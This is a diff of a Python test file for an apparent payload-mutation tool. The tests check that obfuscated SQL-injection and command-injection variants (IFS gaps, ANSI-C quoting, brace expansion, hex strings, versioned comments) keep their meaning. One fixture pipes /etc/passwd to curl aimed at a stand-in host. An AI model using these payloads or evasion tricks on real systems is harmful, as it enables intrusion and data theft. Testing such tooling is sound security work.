@@ -92,9 +92,22 @@ def test_a_class_without_tricks_is_left_alone() -> None:
 
 def canonical_sql(payload: bytes) -> str:
     text = re.sub(r"/\*!(?:\d{5})?(\w+)\*/", r"\1", payload.decode("latin-1"))
-    text = re.sub(r"/\*.*?\*/|\s+", " ", text)
-    text = re.sub(r"(\d+)(?:=\1| like \1| between \1 and \1)\b|\d+<\d+", "1=1", text, flags=re.I)
+    text = re.sub(r"/\*.*?\*/|(?:--|#)[^\n]*\n", " ", text)
+    text = re.sub(r"&&", " and ", text).replace("||", " or ")
+    equal = r"(\d+)(?:\s*(?:=|<=>)\s*\1|\s+r?like\s+\1|\s+in\s*\(\1\)|\s+between \1 and \1)(?!\d)"
+    text = re.sub(equal + r"|\d+<\d+", " 1=1 ", text, flags=re.I)
+    text = re.sub(r"\s*('\w*'|')\s*", r" \1 ", text)
     return re.sub(r"\s+", " ", text).lower()
+
+
+def test_sql_strings_keep_their_text() -> None:
+    seen = set()
+    for seed in range(300):
+        text = mutate(b"1 and a='root' and 1", "sql-injection", random.Random(seed)).decode()
+        text = re.sub(r"0x([0-9a-f]+)", lambda m: f"'{bytes.fromhex(m[1]).decode()}'", text)
+        seen.add(text)
+        assert re.sub(r"'(?: |\+|\|\|)'", "", text).count("'root'") == 1
+    assert len(seen) > 30
 
 
 def test_sql_tricks_keep_the_statement() -> None:
@@ -130,10 +143,20 @@ def test_shell_tricks_keep_the_words() -> None:
     payload = b"x;cat /etc/passwd|curl http://a.example.com/"
     for seed in range(200):
         text = mutate(payload, "command-injection", random.Random(seed)).decode()
-        for gap in ("${IFS%??}", "${IFS}", "$IFS$9", "\t"):
-            text = text.replace(gap, " ")
-        text = re.sub(r"''|\"\"|\\|\$@", "", text)
-        assert re.fullmatch(r"x;cat /etc/[pas?wd]{6}\|curl http://a\.example\.com/", text)
+        text = re.sub(r"\$'((?:\\[0-7]{3}|\\x[0-9a-f]{2})+)'", ansi_c, text)
+        text = re.sub(r"\$\{IFS(?::0:1|%\?\?)?\}|\$IFS(?:\$9)?|\t", " ", text)
+        text = text.replace("${HOME:0:1}", "/")
+        text = re.sub(r"['\"](\w)['\"]", r"\1", text)
+        text = re.sub(r"''|\"\"|``|\$\(\)|\$\{x\}|\\|\$[@9*]", "", text)
+        for _ in range(2):
+            text = re.sub(r"\{(\w+),([^}]*)\}", r"\1 \2", text)
+            text = re.sub(r"\$\((?:echo|printf) (\w+)\)|`echo (\w+)`", r"\1\2", text)
+        path = r"/etc/[pas?*wd\[\]]{6,8}"
+        assert re.fullmatch(rf"x(?:\s|;|\||&)+cat {path}\|curl http://a\.example\.com/", text), text
+
+
+def ansi_c(match: re.Match[str]) -> str:
+    return match[1].encode().decode("unicode_escape")
 
 
 def test_windows_commands_get_carets_not_shell_variables() -> None:
